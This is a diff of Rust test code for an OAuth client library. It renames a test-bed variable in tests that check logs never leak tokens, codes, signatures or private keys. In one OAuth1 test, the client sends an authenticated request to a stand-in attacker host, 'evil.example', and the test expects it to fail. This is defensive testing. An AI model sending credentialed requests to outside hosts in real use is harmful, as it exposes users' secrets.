@@ -31,26 +31,26 @@ async fn verifiers(browser: &Browser) -> Vec<String> {
 #[tokio::test]
 async fn login_refresh_call_and_logout_log_no_secret() {
     let (log, _guard) = capture_log();
-    let world = TestBed::new();
+    let bed = TestBed::new();
     let browser = Browser::default();
     let mut secrets = vec![SECRET.to_owned()];
-    let url = world.start(&browser).await.unwrap();
+    let url = bed.start(&browser).await.unwrap();
     secrets.extend(values(&url, &["state", "nonce", "code_challenge"]));
     secrets.extend(verifiers(&browser).await);
     let state = login::Session::load(&browser).await.unwrap();
     log.show(&format!("{state:?}"));
-    let back = world.provider.approve(&url, "alice").unwrap();
+    let back = bed.provider.approve(&url, "alice").unwrap();
     secrets.extend(values(back.as_str(), &["code"]));
-    let login = world.finish(&browser, &back).await.unwrap();
+    let login = bed.finish(&browser, &back).await.unwrap();
     let old = login.token.clone();
-    world.clock.advance(Duration::from_secs(3600));
+    bed.clock.advance(Duration::from_secs(3600));
     let heard = log.clone();
-    world.oauth.subscribe(move |update| heard.show(&format!("{update:?}")));
-    let new = world.app().active_token(&login.owner()).await.unwrap();
-    let request = world.app().get("user", &login.owner());
-    log.show(&format!("{login:?} {new:?} {request:?} {:?} {:?}", world.oauth, world.app()));
+    bed.oauth.subscribe(move |update| heard.show(&format!("{update:?}")));
+    let new = bed.app().active_token(&login.owner()).await.unwrap();
+    let request = bed.app().get("user", &login.owner());
+    log.show(&format!("{login:?} {new:?} {request:?} {:?} {:?}", bed.oauth, bed.app()));
     request.send().await.unwrap();
-    let about = world.app().introspect_token(&new.access_token, None).await.unwrap();
+    let about = bed.app().introspect_token(&new.access_token, None).await.unwrap();
     log.show(&format!("{about:?}"));
     for token in [old, new] {
         secrets.push(token.access_token.expose().to_owned());
@@ -58,7 +58,7 @@ async fn login_refresh_call_and_logout_log_no_secret() {
         secrets.push(token.id_token.unwrap().expose().to_owned());
     }
     let options = LogoutOptions::new().post_logout_redirect_uri("/logged-out").revoke_tokens();
-    let away = world.log_out(&browser, &[], options).await.unwrap();
+    let away = bed.log_out(&browser, &[], options).await.unwrap();
     let away = location(&away).to_owned();
     secrets.extend(values(&away, &["state"]));
     secrets.push(login.owner().user);
@@ -75,27 +75,27 @@ async fn login_refresh_call_and_logout_log_no_secret() {
 async fn oauth1_login_and_calls_log_no_secret() {
     let (log, _guard) = capture_log();
     for placement in PLACEMENTS {
-        let world = oauth1::oauth1_bed(|client| oauth1::signing(client, "HMAC-SHA1", placement));
+        let bed = oauth1::oauth1_bed(|client| oauth1::signing(client, "HMAC-SHA1", placement));
         let browser = Browser::default();
-        let url = world.start(&browser).await.unwrap();
+        let url = bed.start(&browser).await.unwrap();
         let mut secrets = values(&url, &["oauth_token"]);
         let state = login::Session::load(&browser).await.unwrap().unwrap();
         log.show(&format!("{state:?}"));
         let state = serde_json::to_value(&state).unwrap();
         secrets.push(state["pending"][0]["token_secret"].as_str().unwrap().to_owned());
-        let back = world.provider.approve(&url, "alice").unwrap();
+        let back = bed.provider.approve(&url, "alice").unwrap();
         secrets.extend(values(back.as_str(), &["oauth_verifier"]));
-        world.provider.inject(Fault::Response(Endpoint::OAuth1AccessToken, Reply::html(500)));
-        let error = world.finish(&browser, &back).await.unwrap_err();
+        bed.provider.inject(Fault::Response(Endpoint::OAuth1AccessToken, Reply::html(500)));
+        let error = bed.finish(&browser, &back).await.unwrap_err();
         log.show(&format!("{error} {error:?}"));
-        world.provider.clear_faults();
-        let login = world.log_in(&browser).await.unwrap();
-        let call = world.app().post("x", &login.owner());
-        log.show(&format!("{login:?} {call:?} {:?} {:?}", world.oauth, world.app()));
+        bed.provider.clear_faults();
+        let login = bed.log_in(&browser).await.unwrap();
+        let call = bed.app().post("x", &login.owner());
+        log.show(&format!("{login:?} {call:?} {:?} {:?}", bed.oauth, bed.app()));
         call.send().await.unwrap();
-        let away = world.app().post("https://evil.example/?a=hush", &login.owner()).send().await;
+        let away = bed.app().post("https://evil.example/?a=hush", &login.owner()).send().await;
         log.show(&format!("{:?}", away.unwrap_err()));
-        for seen in world.provider.received_requests() {
+        for seen in bed.provider.received_requests() {
             let header = seen.header("authorization").unwrap_or_default();
             let header = header.split_once("oauth_signature=\"").map(|(_, rest)| rest);
             secrets.extend(header.map(|rest| rest.trim_end_matches('"').to_owned()));
@@ -137,17 +137,17 @@ async fn failures_show_no_secret() {
     ];
     for quirk in quirks {
         let (log, _guard) = capture_log();
-        let world = TestBed::new();
+        let bed = TestBed::new();
         let browser = Browser::default();
         let case = format!("{quirk:?}");
-        let url = world.start(&browser).await.unwrap();
+        let url = bed.start(&browser).await.unwrap();
         let mut secrets = values(&url, &["state", "nonce", "code_challenge"]);
         secrets.extend(verifiers(&browser).await);
         secrets.push(SECRET.to_owned());
-        world.provider.inject(quirk);
-        let back = world.provider.approve(&url, "alice").unwrap();
+        bed.provider.inject(quirk);
+        let back = bed.provider.approve(&url, "alice").unwrap();
         secrets.extend(values(back.as_str(), &["code"]).into_iter().filter(|code| code != "x"));
-        let error = world.finish(&browser, &back).await.unwrap_err();
+        let error = bed.finish(&browser, &back).await.unwrap_err();
         log.show(&format!("{error} {} {error:?} {error:#?}", error.report()));
         let mut cause = std::error::Error::source(&error);
         while let Some(inner) = cause {
@@ -170,13 +170,13 @@ async fn private_key_and_assertions_are_never_shown() {
     // The beginning of the header of every assertion.
     secrets.push("eyJhbGciOi".to_owned());
     for known in ["p256", "p384"] {
-        let world = keyed_bed(known, |client| client.private_key(pem));
-        let result = world.log_in(&Browser::default()).await;
+        let bed = keyed_bed(known, |client| client.private_key(pem));
+        let result = bed.log_in(&Browser::default()).await;
         assert_eq!(result.is_ok(), known == "p256");
-        log.show(&format!("{:?} {:?}", world.oauth, world.app()));
+        log.show(&format!("{:?} {:?}", bed.oauth, bed.app()));
         if let Ok(login) = result {
-            world.clock.advance(Duration::from_secs(3600));
-            world.app().active_token(&login.owner()).await.unwrap();
+            bed.clock.advance(Duration::from_secs(3600));
+            bed.app().active_token(&login.owner()).await.unwrap();
         } else if let Err(error) = result {
             log.show(&format!("{error} {} {error:?} {error:#?}", error.report()));
         }
@@ -204,7 +204,7 @@ async fn private_key_and_assertions_are_never_shown() {
 #[tokio::test]
 async fn echoed_request_body_is_not_quoted() {
     let (log, _guard) = capture_log();
-    let world = TestBed::new();
+    let bed = TestBed::new();
     let browser = Browser::default();
     for (status, content_type) in
         [(400, "text/plain"), (200, "text/html"), (500, "application/json")]
@@ -212,10 +212,10 @@ async fn echoed_request_body_is_not_quoted() {
         let body = "code=the-code&client_secret=hush".to_owned();
         let content_type = content_type.to_owned();
         let reply = Reply::Body { status, content_type, body };
-        world.provider.inject(Fault::Response(Endpoint::Token, reply));
-        let error = world.log_in(&browser).await.unwrap_err();
+        bed.provider.inject(Fault::Response(Endpoint::Token, reply));
+        let error = bed.log_in(&browser).await.unwrap_err();
         log.show(&format!("{error} {error:?}"));
-        world.provider.clear_faults();
+        bed.provider.clear_faults();
     }
     log.check(&["hush".to_owned(), "the-code".to_owned()], "echo");
 }
